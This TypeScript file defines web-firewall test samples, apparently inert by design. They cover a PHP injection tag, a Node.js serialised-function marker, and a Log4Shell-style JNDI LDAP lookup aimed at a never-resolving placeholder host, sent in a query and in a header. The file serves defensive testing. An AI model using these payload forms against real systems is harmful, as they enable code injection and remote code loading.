import { NOBODYS_HOST, NOTHING, NOTHING_NAMED, type Sample } from '../sample.ts';

const code = (what: string, rules: string, form: Sample['form']): Sample => ({
  id: `code-${what}`,
  class: 'code',
  protection: 'waf',
  rules,
  form,
});

/** Code for interpreters that would find nothing of that name, and a look-up at a host that never resolves. */
export const CODE: readonly Sample[] = [
  code('php', 'CRS 933 PHP injection', { kind: 'query', value: `<?php ${NOTHING_NAMED} ?>` }),
  code('node', 'CRS 934 Node.js injection', { kind: 'query', value: `_$$ND_FUNC$$_${NOTHING_NAMED}` }),
  code('lookup', 'CRS 944 Java attacks', { kind: 'query', value: `\${jndi:ldap://${NOBODYS_HOST}/x}` }),
  code('lookup-header', 'CRS 944 Java attacks', {
    kind: 'header',
    name: 'x-forwarded-scheme',
    value: `\${jndi:ldap://${NOBODYS_HOST}/x}`,
    twin: `https://${NOBODYS_HOST}/${NOTHING}`,
  }),
];
